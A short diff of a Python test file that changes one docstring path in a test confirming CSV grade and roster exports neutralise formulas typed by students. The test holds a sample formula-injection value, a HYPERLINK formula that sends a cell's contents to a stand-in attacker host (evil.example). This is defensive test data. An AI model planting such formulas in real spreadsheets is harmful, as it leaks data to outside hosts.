@@ -533,7 +533,7 @@ def test_assignments_exports_an_lms_gradebook_and_gradescope_results(app, clock)
 
 def test_assignments_exports_never_carry_a_formula_a_student_typed(app, clock):
     """A joined name `=HYPERLINK(...)` (and a roster name `+...`, `@...`) lands in grades.csv, gradebook.csv and
-    the roster's links.csv behind a single quote, so a spreadsheet shows it as text (tracer/spreadsheet.py); the
+    the roster's links.csv behind a single quote, so a spreadsheet shows it as text (tracer/tools/spreadsheet.py); the
     numbers stay numbers."""
     evil = '=HYPERLINK("http://evil.example/?"&A1,"grade")'
     aid = publish(app, open=True)["id"]
